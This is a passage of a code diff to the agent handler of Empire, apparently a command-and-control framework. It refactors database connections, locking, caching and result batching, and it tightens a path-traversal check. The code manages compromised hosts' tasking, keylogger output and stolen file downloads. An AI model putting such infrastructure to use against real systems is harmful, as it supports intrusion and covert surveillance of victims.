@@ -4,7 +4,8 @@ Main agent handling functionality for Empire.
 
 The Agents() class in instantiated in ./empire.py by the main menu and includes:
 
-    get_db_connection()         - returns the empire.py:mainMenu database connection object
+    get_db_connection()         - returns the Agents() writer connection to the backend database
+    get_read_connection()       - checks a pooled reader connection out for a with block
     is_agent_present()          - returns True if an agent is present in the self.agents cache
     add_agent()                 - adds an agent to the self.agents cache and the backend database
     remove_agent_db()           - removes an agent from the self.agents cache and the backend database
@@ -14,6 +15,7 @@ The Agents() class in instantiated in ./empire.py by the main menu and includes:
     save_agent_log()            - saves the agent console output to the agent's log file
     is_agent_elevated()         - checks whether a specific sessionID is currently elevated
     get_agents_db()             - returns all active agents from the database
+    iter_agents_db()            - yields all active agents from the database one row at a time
     get_agent_names_db()        - returns all names of active agents from the database
     get_agent_ids_db()          - returns all IDs of active agents from the database
     get_agent_db()              - returns complete information for the specified agent from the database
@@ -28,7 +30,7 @@ The Agents() class in instantiated in ./empire.py by the main menu and includes:
     get_agent_os_db()           - returns an agent's operating system details based on sessionID
     get_agent_functions()       - returns the tab-completable functions for an agent from the cache
     get_agent_functions_db()    - returns the tab-completable functions for an agent from the database
-    get_agents_for_listener()   - returns all agent objects linked to a given listener name
+    get_agents_for_listener()   - returns all agent sessionIDs linked to a given listener name
     get_agent_names_listener_db()-returns all agent names linked to a given listener name
     get_autoruns_db()           - returns any global script autoruns
     update_agent_results_db()   - updates agent results in the database
@@ -52,24 +54,38 @@ The Agents() class in instantiated in ./empire.py by the main menu and includes:
 
 handle_agent_data() is the main function that should be used by external listener modules
 
-Most methods utilize self.lock to deal with the concurreny issue of kicking off threaded listeners.
+Locking is split by concern to deal with the concurreny issue of kicking off threaded listeners:
+self.lock only guards the Agents() writer connection, self._agents_lock serializes updates to the
+self.agents cache, and file downloads and agent.log writes take per-agent locks. The self.agents
+cache is an immutable snapshot, so reads from it are lock-free, and pure database reads go through
+get_read_connection() against the WAL-mode database instead of taking self.lock.
 
 """
 from __future__ import absolute_import
 from __future__ import print_function
 
+import atexit
 import sqlite3
 import json
+import ntpath
 import os
+import posixpath
+import queue
+import re
 import string
 import threading
+import time
+import urllib.request
 from builtins import object
+from collections import defaultdict, deque
 # -*- encoding: utf-8 -*-
 from builtins import str
+from contextlib import contextmanager
 from datetime import datetime, timezone
+from json.encoder import encode_basestring_ascii
+from types import MappingProxyType
 
 from pydispatch import dispatcher
-from zlib_wrapper import decompress
 
 # Empire imports
 from . import encryption
@@ -78,6 +94,203 @@ from . import helpers
 from . import messages
 from . import packets
 
+# the agent columns that the agent list views and the startup cache warm-up actually read,
+#   selecting only these keeps the results/taskings blobs out of get_agents_db()
+AGENT_LIST_COLUMNS = ('session_id', 'name', 'listener', 'language', 'language_version', 'delay', 'jitter',
+                      'internal_ip', 'username', 'high_integrity', 'process_name', 'process_id', 'hostname',
+                      'os_details', 'session_key', 'nonce', 'lastseen_time', 'functions')
+SQL_SELECT_AGENTS = "SELECT %s FROM agents" % ', '.join(AGENT_LIST_COLUMNS)
+SQL_SELECT_AGENT = "SELECT * FROM agents WHERE session_id = ? OR name = ?"
+SQL_SELECT_HIGH_INTEGRITY = "SELECT high_integrity FROM agents WHERE session_id=?"
+SQL_DELETE_AGENT = "DELETE FROM agents WHERE session_id LIKE ?"
+SQL_SELECT_DIRECTORY = "SELECT * FROM file_directory WHERE session_id = ? AND path = ?"
+SQL_DELETE_DIRECTORY_CHILDREN = "DELETE FROM file_directory WHERE session_id = ? AND parent_id = ?"
+SQL_DELETE_DIRECTORY_PATHS = "DELETE FROM file_directory WHERE session_id = ? AND path IN (%s)"
+SQL_INSERT_DIRECTORY_ITEM = "INSERT INTO file_directory (name, path, parent_id, is_file, session_id) VALUES (?,?,?,?,?)"
+SQL_SELECT_LISTENER_TASKINGS = "SELECT session_id, taskings FROM agents WHERE listener = ? AND taskings IS NOT NULL AND taskings != ''"
+SQL_SELECT_LISTENER_PENDING = "SELECT 1 FROM agents WHERE listener = ? AND taskings IS NOT NULL AND taskings != '' LIMIT 1"
+SQL_CLEAR_LISTENER_TASKINGS = "UPDATE agents SET taskings = '' WHERE listener = ? AND session_id IN (%s)"
+SQL_INSERT_AGENT_RESULT = "INSERT INTO agent_results (agent, timestamp, data) VALUES (?,?,?)"
+SQL_SELECT_AGENT_RESULTS = "SELECT id, data FROM agent_results WHERE agent = ? ORDER BY id"
+SQL_DELETE_AGENT_RESULTS = "DELETE FROM agent_results WHERE agent = ? AND id <= ?"
+SQL_DELETE_ALL_AGENT_RESULTS = "DELETE FROM agent_results WHERE agent LIKE ?"
+SQL_SELECT_TASKINGS = "SELECT taskings FROM agents WHERE session_id=?"
+SQL_UPDATE_TASKINGS = "UPDATE agents SET taskings=? WHERE session_id=?"
+SQL_SELECT_MAX_TASK_ID = "SELECT max(id) from taskings where agent=?"
+SQL_INSERT_TASKING = "INSERT INTO taskings (id, agent, data, user_id, timestamp, module_name) VALUES(?,?,?,?,?,?)"
+SQL_INSERT_RESULT = "INSERT INTO results (id, agent, user_id) VALUES (?,?,?)"
+SQL_UPDATE_USER_LOGON = "UPDATE users SET last_logon_time = ? WHERE id = ?"
+SQL_SELECT_AUTORUNS = "SELECT autorun_command, autorun_data FROM config LIMIT 1"
+SQL_UPDATE_AUTORUNS = "UPDATE config SET autorun_command=?, autorun_data=?"
+SQL_SELECT_KEYLOG_TASKS = "SELECT agent, id FROM taskings WHERE data LIKE \"function Get-Keystrokes%\""
+SQL_SET_RESULT_DATA = "UPDATE results SET data=? WHERE id=? AND agent=?"
+SQL_APPEND_RESULT_DATA = "UPDATE results SET data=data||? WHERE id=? AND agent=?"
+SQL_UPDATE_LASTSEEN = "UPDATE agents SET lastseen_time=? WHERE session_id=?"
+
+# databases created before the agent_results table existed get it on startup, and any
+#   results still sitting in the old agents.results JSON lists are moved over into it
+SQL_CREATE_AGENT_RESULTS = ("CREATE TABLE IF NOT EXISTS agent_results (id integer PRIMARY KEY, agent text, timestamp timestamp, data text)",
+                            "CREATE INDEX IF NOT EXISTS agent_results_agent ON agent_results (agent)",
+                            "INSERT INTO agent_results (agent, timestamp, data) SELECT agents.session_id, datetime('now') || '+00:00', old_results.value "
+                            "FROM agents, json_each(agents.results) AS old_results WHERE json_valid(agents.results) ORDER BY agents.id, old_results.key",
+                            "UPDATE agents SET results=NULL WHERE json_valid(results)")
+
+# stay well under SQLITE_MAX_VARIABLE_NUMBER (999 on older builds) when binding IN (...) lists
+SQL_MAX_IN_PARAMS = 500
+
+# every byte value outside string.printable, for stripping posted PowerShell keys with bytes.translate()
+NONPRINTABLE_BYTES = bytes(b for b in range(256) if chr(b) not in string.printable)
+
+# the keylogger noise stripped from keystrokes.txt output in one pass, "[Enter]\r" is turned
+#   into a newline afterwards since these removals can leave one behind (e.g. "[Enter]\r\n\r").
+#   Unlike the old chain of replace() calls the pass doesn't rescan its own output, so a token
+#   only formed by removing another one (e.g. "[Space\r\nBar]" or "[Sh\x08ift]") is kept as-is.
+KEYSTROKE_NOISE = re.compile(rb'\r\n|\[SpaceBar\]|\x08|\[Shift\]')
+
+# taskings starting with this are the keylogger, its output is appended to keystrokes.txt
+KEYLOG_TASK_PREFIX = "function Get-Keystrokes"
+
+# result packets whose data is saved off as a file rather than stored as results
+FILE_RESPONSES = frozenset(["TASK_DOWNLOAD", "TASK_CMD_JOB_SAVE", "TASK_CMD_WAIT_SAVE"])
+
+# the sysinfo result's left-hand column, padded once here rather than for every TASK_SYSINFO
+SYSINFO_LABELS = tuple('{0: <18}'.format(label) for label in ("Listener:", "Internal IP:", "Username:", "Hostname:", "OS:", "High Integrity:", "Process Name:", "Process ID:", "Language:", "Language Version:"))
+
+# Slack notifications queued within SLACK_BATCH_WAIT seconds of each other (up to
+#   SLACK_BATCH_SIZE of them) are posted to their webhook as one message
+SLACK_BATCH_SIZE = 10
+SLACK_BATCH_WAIT = 0.5
+
+# queued result writes are committed every RESULT_FLUSH_INTERVAL seconds, or as soon as
+#   RESULT_FLUSH_ROWS of them are waiting
+RESULT_FLUSH_INTERVAL = 0.1
+RESULT_FLUSH_ROWS = 2000
+
+# check-in times are written to the agents table every LASTSEEN_FLUSH_INTERVAL seconds,
+#   the agent cache is updated as each check-in happens
+LASTSEEN_FLUSH_INTERVAL = 1.0
+
+# the fixed-shape event signals, filled in with encode_basestring_ascii()'d strings so they
+#   come out exactly as json.dumps() would write the equivalent dict
+SIGNAL_CHECKIN = '{"print": true, "message": %s, "timestamp": %s, "event_type": "checkin"}'
+SIGNAL_TASK = '{"print": true, "message": %s, "task_name": %s, "task_id": %d, "task": %s, "event_type": "task"}'
+SIGNAL_RESULT = '{"print": false, "message": %s, "response_name": %s, "task_id": %d, "event_type": "result"}'
+
+
+class BatchedResultWriter(object):
+    """
+    Write-behind queue for the reporting results table.
+
+    Agent packets queue their (data, taskID, sessionID) updates and a
+    background thread commits whatever has built up in one transaction,
+    so a busy server pays one commit per batch rather than one per packet.
+    The queue has its own lock, so queueing never waits on a commit.
+    """
+
+    def __init__(self, getConnection, dbLock):
+        self.getConnection = getConnection
+        self.dbLock = dbLock
+        self._pending = deque()
+        self._pending_lock = threading.Lock()
+        self._wakeup = threading.Event()
+
+        flushThread = threading.Thread(target=self._run)
+        flushThread.daemon = True
+        flushThread.start()
+
+
+    def set_result(self, sessionID, taskID, data):
+        """
+        Queue replacing a task's result data.
+        """
+        self._queue(SQL_SET_RESULT_DATA, (data, taskID, sessionID))
+
+
+    def append_result(self, sessionID, taskID, data):
+        """
+        Queue appending to a task's result data.
+        """
+        self._queue(SQL_APPEND_RESULT_DATA, (data, taskID, sessionID))
+
+
+    def _queue(self, statement, params):
+        with self._pending_lock:
+            self._pending.append((statement, params))
+            pendingRows = len(self._pending)
+        if pendingRows >= RESULT_FLUSH_ROWS:
+            self._wakeup.set()
+
+
+    def _run(self):
+        while True:
+            self._wakeup.wait(RESULT_FLUSH_INTERVAL)
+            self._wakeup.clear()
+            try:
+                self.flush()
+            except Exception as e:
+                print(helpers.color("[!] Error writing agent results: %s" % (e)))
+
+
+    def flush(self):
+        """
+        Commit every queued write in one transaction, in the order they were queued.
+
+        Rows that fail on their own are dropped, a failure of the whole
+        transaction puts the batch back on the queue.
+        """
+        with self._pending_lock:
+            if not self._pending:
+                return
+            writes = self._pending
+            self._pending = deque()
+
+        # consecutive writes of the same statement go through one executemany()
+        batches = []
+        for statement, params in writes:
+            if batches and batches[-1][0] == statement:
+                batches[-1][1].append(params)
+            else:
+                batches.append((statement, [params]))
+
+        with self.dbLock:
+            conn = self.getConnection()
+            cur = conn.cursor()
+            try:
+                cur.execute("BEGIN IMMEDIATE")
+                for statement, rows in batches:
+                    cur.execute("SAVEPOINT result_rows")
+                    try:
+                        cur.executemany(statement, rows)
+                    except sqlite3.OperationalError:
+                        raise
+                    except sqlite3.Error:
+                        # a bad row shouldn't cost the rest of the batch, undo this run and
+                        #   write it again one row at a time, skipping only the rows that fail
+                        cur.execute("ROLLBACK TO result_rows")
+                        for params in rows:
+                            try:
+                                cur.execute(statement, params)
+                            except sqlite3.OperationalError:
+                                raise
+                            except sqlite3.Error as e:
+                                print(helpers.color("[!] Dropping agent result for task %s: %s" % (params[1], e)))
+                    cur.execute("RELEASE result_rows")
+                cur.execute("COMMIT")
+            except sqlite3.OperationalError:
+                # the database was busy or couldn't be written, nothing here was committed so
+                #   put the batch back in front of anything queued since for the next flush
+                if conn.in_transaction:
+                    cur.execute("ROLLBACK")
+                with self._pending_lock:
+                    self._pending.extendleft(reversed(writes))
+                raise
+            except Exception:
+                if conn.in_transaction:
+                    cur.execute("ROLLBACK")
+                raise
+            finally:
+                cur.close()
+
 
 class Agents(object):
     """
@@ -91,35 +304,420 @@ class Agents(object):
         self.installPath = self.mainMenu.installPath
         self.args = args
 
+        # debug mode is fixed at startup, so choose the tasking path once instead of checking it per task
+        if self.args and self.args.debug:
+            self.add_agent_task_db = self._add_agent_task_debug
+
         # internal agent dictionary for the client's session key, funcions, and URI sets
         #   this is done to prevent database reads for extremely common tasks (like checking tasking URI existence)
         #   self.agents[sessionID] = {  'sessionKey' : clientSessionKey,
-        #                               'functions' : [tab-completable function names for a script-import]
+        #                               'functions' : [tab-completable function names for a script-import],
+        #                               'name', 'language', 'language_version', 'nonce',
+        #                               'hostname', 'os_details', 'listener' : mirrored agent columns
+        #                               'lastseen_time' : last check-in as a UTC datetime
         #                            }
-        self.agents = {}
+        #   the cache is an immutable snapshot that is copied and rebound on every add/remove
+        #   so readers never need to take a lock, writers serialize on self._agents_lock
+        self._agents_snapshot = MappingProxyType({})
+        self._agents_lock = threading.Lock()
+
+        # sessionID -> "agents/<sessionID>" dispatcher sender, see _sender()
+        self._senders = {}
 
-        # used to protect self.agents and self.mainMenu.conn during threaded listener access
+        # reverse name -> sessionID index for the cache, seeded with it at startup
+        #   and kept in step with it under self._agents_lock
+        self._name_to_sid = {}
+
+        # used to protect self.conn (the Agents() writer connection) during threaded listener access
         self.lock = threading.Lock()
 
+        # per-agent locks for the downloads folder, so one agent's large download
+        #   doesn't hold up database writes or other agents' downloads
+        self._agent_fs_locks = defaultdict(threading.Lock)
+
+        # every download has to resolve to somewhere under this folder (see _is_safe_download_path())
+        self._safe_download_root = os.path.abspath(os.path.join(self.installPath, "downloads"))
+
+        # Agents() writes through its own connection, so its explicit transactions never
+        #   take in statements other menus run on the shared empire.py:mainMenu.conn. The
+        #   database is in WAL mode so readers don't block on the writer, and a small pool
+        #   of reader connections lets pure reads skip self.lock entirely
+        self.dbPath = self.mainMenu.conn.execute("PRAGMA database_list").fetchone()[2]
+        self.conn = self._open_write_connection()
+        cur = self.conn.cursor()
+        cur.execute("BEGIN IMMEDIATE")
+        try:
+            for statement in SQL_CREATE_AGENT_RESULTS:
+                cur.execute(statement)
+            cur.execute("COMMIT")
+        except Exception:
+            cur.execute("ROLLBACK")
+            raise
+        finally:
+            cur.close()
+        poolSize = min((os.cpu_count() or 1) * 2, 16)
+        self._read_pool = queue.Queue(maxsize=poolSize)
+        for x in range(poolSize):
+            self._read_pool.put(self._open_read_connection())
+
+        # the reader connection checked out by the current thread, so every read made
+        #   while handling one routing packet shares a single connection
+        self._read_local = threading.local()
+
         # reinitialize any agents that already exist in the database
-        dbAgents = self.get_agents_db()
-        for agent in dbAgents:
+        agents = {}
+        for agent in self.iter_agents_db():
             agentInfo = {'sessionKey' : agent['session_key'], 'functions' : agent['functions']}
-            self.agents[agent['session_id']] = agentInfo
+            for field in self._CACHED_FIELDS:
+                agentInfo[field] = agent[field]
+            try:
+                agentInfo['lastseen_time'] = self._parse_lastseen(agent['lastseen_time'])
+            except (TypeError, ValueError):
+                pass
+            agents[agent['session_id']] = agentInfo
+        self._agents_snapshot = MappingProxyType(agents)
+        self._name_to_sid = {agentInfo['name']: sid for sid, agentInfo in agents.items() if agentInfo['name']}
+
+        # (sessionID, taskID) of every keylogger tasking, added to by add_agent_task_db() under
+        #   self.lock, so result packets don't have to query taskings to spot keystrokes
+        with self.get_read_connection() as conn:
+            self._keylog_task_ids = set(tuple(row) for row in conn.execute(SQL_SELECT_KEYLOG_TASKS))
 
         # pull out common configs from the main menu object in empire.py
+        self._ip_whitelist = None
+        self._ip_blacklist = None
         self.ipWhiteList = self.mainMenu.ipWhiteList
         self.ipBlackList = self.mainMenu.ipBlackList
 
+        # open agent.log handles keyed by agent name
+        #   self._log_handles[name] = [file handle, per-agent lock]
+        #   so logging doesn't reopen the file or take self.lock every time
+        self._log_handles = {}
+        self._log_handles_lock = threading.Lock()
+        atexit.register(self._close_logs)
+
+        # (autorun_command, autorun_data) from the config table, loaded on first use
+        self._autorun_cache = None
+
+        # last task ID handed out per agent, guarded by self.lock
+        self._task_ids = {}
+
+        # result packets are written to the reporting results table in batches
+        self._result_writer = BatchedResultWriter(self.get_db_connection, self.lock)
+        atexit.register(self._result_writer.flush)
+
+        # sessionID -> latest check-in time not yet written, drained by _lastseen_worker()
+        self._lastseen_pending = {}
+        lastseenThread = threading.Thread(target=self._lastseen_worker)
+        lastseenThread.daemon = True
+        lastseenThread.start()
+        atexit.register(self._flush_lastseen)
+
+        # agents that may have taskings queued in the database, guarded by self.lock, so a
+        #   check-in with nothing queued skips the taskings SELECT. Agents loaded from the
+        #   database start out in it since their column hasn't been read yet.
+        self._pending_taskings = set(agents)
+
+        # (webhook url, text) Slack notifications, posted by _slack_worker() so
+        #   check-ins don't wait on the webhook
+        self._slack_queue = queue.Queue()
+        slackThread = threading.Thread(target=self._slack_worker)
+        slackThread.daemon = True
+        slackThread.start()
+
+
+    # agent columns mirrored into self.agents so the get_*_db() helpers can skip the database
+    _CACHED_FIELDS = ('name', 'language', 'language_version', 'nonce', 'hostname', 'os_details', 'listener')
+
+
+    @property
+    def agents(self):
+        """
+        Read-only snapshot of the internal agent cache.
+        """
+        return self._agents_snapshot
+
+
+    @property
+    def ipWhiteList(self):
+        return self._ip_whitelist
+
+
+    @ipWhiteList.setter
+    def ipWhiteList(self, value):
+        self._ip_whitelist = self._build_ip_list(value)
+        self._ip_allowed = self._build_ip_predicate(self._ip_whitelist, self._ip_blacklist)
+
+
+    @property
+    def ipBlackList(self):
+        return self._ip_blacklist
+
+
+    @ipBlackList.setter
+    def ipBlackList(self, value):
+        self._ip_blacklist = self._build_ip_list(value)
+        self._ip_allowed = self._build_ip_predicate(self._ip_whitelist, self._ip_blacklist)
+
+
+    @staticmethod
+    def _build_ip_list(value):
+        """
+        Normalize a raw config string into an IP range list once, so
+        lookups never have to reparse it.
+        """
+        if isinstance(value, str):
+            return helpers.generate_ip_list(value)
+        return value
+
+
+    @staticmethod
+    def _build_ip_predicate(whiteList, blackList):
+        """
+        Collapse the whitelist/blacklist combination into a single check,
+        so is_ip_allowed() doesn't re-branch on which lists are set.
+        """
+        if whiteList and blackList:
+            return lambda ip: ip not in blackList and ip in whiteList
+        if whiteList:
+            return lambda ip: ip in whiteList
+        if blackList:
+            return lambda ip: ip not in blackList
+        return lambda ip: True
+
+
+    def _cache_agent(self, sessionID, agentInfo):
+        """
+        Copy-on-write insert/replace of an agent in the internal cache.
+        """
+        with self._agents_lock:
+            agents = dict(self._agents_snapshot)
+            oldInfo = agents.get(sessionID)
+            if oldInfo:
+                self._name_to_sid.pop(oldInfo.get('name'), None)
+            agents[sessionID] = agentInfo
+            self._agents_snapshot = MappingProxyType(agents)
+            self._name_to_sid[agentInfo.get('name', sessionID)] = sessionID
+
+
+    def _update_cached_agent(self, sessionID, **fields):
+        """
+        Copy-on-write update of cached fields for an agent, keyed by sessionID or name.
+        """
+        with self._agents_lock:
+            agents = dict(self._agents_snapshot)
+            if sessionID not in agents:
+                sessionID = self._name_to_sid.get(sessionID) or next((sid for sid, agentInfo in agents.items() if agentInfo.get('name') == sessionID), None)
+                if sessionID is None:
+                    return
+            if 'name' in fields:
+                self._name_to_sid.pop(agents[sessionID].get('name'), None)
+                self._name_to_sid[fields['name']] = sessionID
+            agents[sessionID] = dict(agents[sessionID], **fields)
+            self._agents_snapshot = MappingProxyType(agents)
+
+
+    def _uncache_agent(self, sessionID):
+        """
+        Copy-on-write removal of an agent (or all agents for '%') from the internal cache.
+        """
+        with self._agents_lock:
+            if sessionID == '%':
+                self._agents_snapshot = MappingProxyType({})
+                self._name_to_sid.clear()
+                self._senders.clear()
+            else:
+                agents = dict(self._agents_snapshot)
+                agentInfo = agents.pop(sessionID, None)
+                self._agents_snapshot = MappingProxyType(agents)
+                self._senders.pop(sessionID, None)
+                if agentInfo:
+                    self._name_to_sid.pop(agentInfo.get('name'), None)
+
+
+    def _slack_worker(self):
+        """
+        Post queued Slack notifications, coalescing the ones that arrive close
+        together into a single webhook call per URL.
+        """
+        while True:
+            url, text = self._slack_queue.get()
+            batch = {url: [text]}
+            count = 1
+            deadline = time.time() + SLACK_BATCH_WAIT
+            while count < SLACK_BATCH_SIZE:
+                timeout = deadline - time.time()
+                if timeout <= 0:
+                    break
+                try:
+                    url, text = self._slack_queue.get(timeout=timeout)
+                except queue.Empty:
+                    break
+                batch.setdefault(url, []).append(text)
+                count += 1
+
+            for url, texts in batch.items():
+                try:
+                    helpers.slackMessage(url, "\r\n".join(texts))
+                except Exception as e:
+                    print(helpers.color("[!] Error sending Slack notification: %s" % (e)))
+
+
+    @staticmethod
+    def _serialize_signal(payload):
+        """
+        JSON encode a signal dict, using the templates for the plain print/message
+        and result shapes.
+        """
+        if len(payload) == 2 and 'print' in payload and 'message' in payload:
+            return helpers.signal_json(payload['message'], payload['print'])
+        if payload.get('event_type') == 'result' and len(payload) == 5 and not payload['print'] and isinstance(payload['task_id'], int):
+            return SIGNAL_RESULT % (encode_basestring_ascii(payload['message']), encode_basestring_ascii(payload['response_name']), payload['task_id'])
+        return json.dumps(payload)
+
+
+    def _sender(self, sessionID):
+        """
+        Return the dispatcher sender string for an agent.
+
+        Only agents in the cache are remembered, so routing packets carrying
+        made up session IDs can't grow it, _uncache_agent() drops them again.
+        """
+        sender = self._senders.get(sessionID)
+        if sender is None:
+            sender = "agents/{}".format(sessionID)
+            if sessionID in self.agents:
+                self._senders[sessionID] = sender
+        return sender
+
+
+    def _emit(self, sender, payload):
+        """
+        Send a signal dict to the dispatcher.
+
+        Signals are sent inline on the calling thread, every one of them is
+        logged to the reporting table by MainMenu.handle_event() and has to be
+        in order and timestamped as it happens.
+        """
+        dispatcher.send(self._serialize_signal(payload), sender=sender)
+
+
+    def _lastseen_worker(self):
+        while True:
+            time.sleep(LASTSEEN_FLUSH_INTERVAL)
+            try:
+                self._flush_lastseen()
+            except Exception as e:
+                print(helpers.color("[!] Error updating agent last seen times: %s" % (e)))
+
+
+    def _flush_lastseen(self):
+        """
+        Write every pending check-in time to the agents table in one transaction.
+        """
+        # popitem() is atomic, so a check-in landing mid-drain is either taken
+        #   now or left in the dict for the next flush, never lost
+        pending = self._lastseen_pending
+        rows = []
+        while True:
+            try:
+                sessionID, current_time = pending.popitem()
+            except KeyError:
+                break
+            rows.append((current_time, sessionID))
+        if not rows:
+            return
+
+        conn = self.get_db_connection()
+        with self.lock:
+            cur = conn.cursor()
+            try:
+                cur.execute("BEGIN IMMEDIATE")
+                cur.executemany(SQL_UPDATE_LASTSEEN, rows)
+                cur.execute("COMMIT")
+            except Exception:
+                if conn.in_transaction:
+                    cur.execute("ROLLBACK")
+                # nothing was written, so queue the times again for the next flush,
+                #   unless the agent has checked in since and queued a newer one
+                for current_time, sessionID in rows:
+                    pending.setdefault(sessionID, current_time)
+                raise
+            finally:
+                cur.close()
+
+
+    def _open_write_connection(self):
+        """
+        Open the Agents() writer connection to the backend database, configured like empire.py:mainMenu.conn.
+        """
+        conn = sqlite3.connect(self.dbPath, check_same_thread=False, cached_statements=helpers.DB_CACHED_STATEMENTS)
+        conn.text_factory = str
+        conn.isolation_level = None
+        helpers.set_connection_pragmas(conn)
+        return conn
+
+
+    def _open_read_connection(self):
+        """
+        Open a new read-only connection to the backend database, otherwise configured like empire.py:mainMenu.conn.
+        """
+        uri = 'file:%s?mode=ro' % (urllib.request.pathname2url(self.dbPath))
+        conn = sqlite3.connect(uri, uri=True, check_same_thread=False, cached_statements=helpers.DB_CACHED_STATEMENTS)
+        conn.text_factory = str
+        conn.isolation_level = None
+        helpers.set_connection_pragmas(conn)
+        return conn
+
 
     def get_db_connection(self):
         """
-        Returns the
+        Returns the Agents() writer connection object, used for all writes.
         """
-        self.lock.acquire()
-        self.mainMenu.conn.row_factory = None
-        self.lock.release()
-        return self.mainMenu.conn
+        return self.conn
+
+
+    @contextmanager
+    def get_read_connection(self):
+        """
+        Check a reader connection out of the pool for the duration of a with block.
+
+        Nested calls on the same thread reuse the connection already checked out.
+        If the pool is exhausted then a temporary connection is opened rather than
+        blocking, as the caller may be holding self.lock.
+        """
+        conn = getattr(self._read_local, 'conn', None)
+        if conn is not None:
+            yield conn
+            return
+
+        conn = self._checkout_read_connection()
+        self._read_local.conn = conn
+        try:
+            yield conn
+        finally:
+            self._read_local.conn = None
+            self._checkin_read_connection(conn)
+
+
+    def _checkout_read_connection(self):
+        """
+        Take a reader connection from the pool, or open a temporary one if it's empty.
+        """
+        try:
+            return self._read_pool.get_nowait()
+        except queue.Empty:
+            return self._open_read_connection()
+
+
+    def _checkin_read_connection(self, conn):
+        """
+        Hand a reader connection back to the pool, closing it if the pool is already full.
+        """
+        try:
+            self._read_pool.put_nowait(conn)
+        except queue.Full:
+            conn.close()
 
 
     ###############################################################
@@ -168,23 +766,34 @@ class Agents(object):
 
             # dispatch this event
             message = "[*] New agent {} checked in".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message,
-                'timestamp': checkinTime.isoformat(),
-                'event_type': 'checkin'
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = SIGNAL_CHECKIN % (encode_basestring_ascii(message), encode_basestring_ascii(checkinTime.isoformat()))
+            dispatcher.send(signal, sender=self._sender(sessionID))
 
             # initialize the tasking/result buffers along with the client session key
-            self.agents[sessionID] = {'sessionKey': sessionKey, 'functions': []}
+            self._cache_agent(sessionID, {'sessionKey': sessionKey, 'functions': [], 'name': sessionID,
+                                          'language': language, 'language_version': None, 'nonce': nonce,
+                                          'hostname': None, 'os_details': None, 'listener': listener,
+                                          'lastseen_time': lastSeenTime})
         finally:
             self.lock.release()
 
+    @staticmethod
+    def _parse_lastseen(lastseen_time):
+        """
+        Parse a lastseen_time column value into a UTC datetime.
+        """
+        return datetime.fromisoformat(lastseen_time).astimezone(timezone.utc)
+
+
     def get_agent_for_socket(self, session_id):
         agent = self.get_agent_db(session_id)
 
-        lastseen_time = datetime.fromisoformat(agent['lastseen_time']).astimezone(timezone.utc)
+        # staleness depends on the current time, so only the parsed check-in time can be cached
+        agentInfo = self.agents.get(agent['session_id'])
+        if agentInfo and agentInfo.get('lastseen_time'):
+            lastseen_time = agentInfo['lastseen_time']
+        else:
+            lastseen_time = self._parse_lastseen(agent['lastseen_time'])
         stale = helpers.is_stale(lastseen_time, agent['delay'], agent['jitter'])
         agent['stale'] = stale
 
@@ -204,7 +813,10 @@ class Agents(object):
             if sessionID == '%' or sessionID.lower() == 'all':
                 sessionID = '%'
                 self.lock.acquire()
-                self.agents = {}
+                self._uncache_agent(sessionID)
+                self._pending_taskings.clear()
+                self._keylog_task_ids.clear()
+                self._close_logs()
             else:
                 # see if we were passed a name instead of an ID
                 nameid = self.get_agent_id_db(sessionID)
@@ -212,21 +824,22 @@ class Agents(object):
                     sessionID = nameid
 
                 self.lock.acquire()
-                # remove the agent from the internal cache
-                self.agents.pop(sessionID, None)
+                # close the agent's log and remove the agent from the internal cache
+                self._close_log(str(self.get_agent_name_db(sessionID)))
+                self._uncache_agent(sessionID)
+                self._pending_taskings.discard(sessionID)
+                self._keylog_task_ids = set(key for key in self._keylog_task_ids if key[0] != sessionID)
 
             # remove the agent from the database
             cur = conn.cursor()
-            cur.execute("DELETE FROM agents WHERE session_id LIKE ?", [sessionID])
+            cur.execute(SQL_DELETE_AGENT, [sessionID])
+            cur.execute(SQL_DELETE_ALL_AGENT_RESULTS, [sessionID])
             cur.close()
 
             # dispatch this event
             message = "[*] Agent {} deleted".format(sessionID)
-            signal = json.dumps({
-                'print': True,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=self._sender(sessionID))
         finally:
             self.lock.release()
 
@@ -236,92 +849,86 @@ class Agents(object):
         Check if the ip_address meshes with the whitelist/blacklist, if set.
         """
 
-        self.lock.acquire()
-        if self.ipBlackList:
-            if self.ipWhiteList:
-                results = ip_address in self.ipWhiteList and ip_address not in self.ipBlackList
-                self.lock.release()
-                return results
-            else:
-                results = ip_address not in self.ipBlackList
-                self.lock.release()
-                return results
-        if self.ipWhiteList:
-            results = ip_address in self.ipWhiteList
-            self.lock.release()
-            return results
-        else:
-            self.lock.release()
-            return True
+        # rebuilt whenever either list is set, a concurrent 'set ip_whitelist' just rebinds it
+        return self._ip_allowed(ip_address)
+
 
+    def _is_safe_download_path(self, save_path, filename):
+        """
+        Check that save_path/filename stays inside the downloads folder.
 
-    def save_file(self, sessionID, path, data, filesize, append=False):
+        Compares whole path components against the root cached at startup,
+        so a sibling like 'downloads2' no longer passes as a prefix match.
+        """
+        resolved = os.path.abspath(os.path.join(save_path, filename))
+        return os.path.commonpath((resolved, self._safe_download_root)) == self._safe_download_root
+
+
+    def save_file(self, sessionID, path, data, filesize, append=False, encoded=False):
         """
         Save a file download for an agent to the appropriately constructed path.
+
+        If encoded is set, data is the still base64-encoded part as sent by the agent.
         """
         nameid = self.get_agent_id_db(sessionID)
         if nameid:
             sessionID = nameid
 
         lang = self.get_language_db(sessionID)
-        parts = path.split("\\")
+        # agent paths are Windows style, possibly with mixed separators
+        dirpart, filename = ntpath.split(path)
+        dirpart = dirpart.replace("\\", "/").rstrip("/")
 
         # construct the appropriate save path
-        save_path = "%sdownloads/%s/%s" % (self.installPath, sessionID, "/".join(parts[0:-1]))
-        filename = os.path.basename(parts[-1])
+        save_path = "%sdownloads/%s/%s" % (self.installPath, sessionID, dirpart)
 
+        fsLock = self._agent_fs_locks[sessionID]
         try:
-            self.lock.acquire()
+            fsLock.acquire()
             # fix for 'skywalker' exploit by @zeroSteiner
-            safePath = os.path.abspath("%sdownloads/" % self.installPath)
-            if not os.path.abspath(save_path + "/" + filename).startswith(safePath):
+            if not self._is_safe_download_path(save_path, filename):
+                if encoded:
+                    data = helpers.decode_base64(data)
                 message = "[!] WARNING: agent {} attempted skywalker exploit!\n[!] attempted overwrite of {} with data {}".format(sessionID, path, data)
-                signal = json.dumps({
-                    'print': True,
-                    'message': message
-                })
-                dispatcher.send(signal, sender="agents/{}".format(sessionID))
